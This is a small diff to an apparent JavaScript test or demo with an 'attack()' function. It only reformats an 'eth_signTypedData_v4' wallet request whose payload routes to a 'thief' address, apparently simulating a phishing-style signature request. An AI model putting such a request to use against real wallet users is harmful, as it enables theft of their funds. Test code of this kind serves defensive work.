@@ -15,7 +15,10 @@ const shop = '0x1111111111111111111111111111111111111111'
 export async function attack() {
   let isCalled = false
   let context
-  const unnamed = { method: 'eth_signTypedData_v4', params: [visitor, JSON.stringify({ to: thief })] }
+  const unnamed = {
+    method: 'eth_signTypedData_v4',
+    params: [visitor, JSON.stringify({ to: thief })],
+  }
   const adapter = {
     namespace: 'eip155',
     parseAddress: (text) => text,
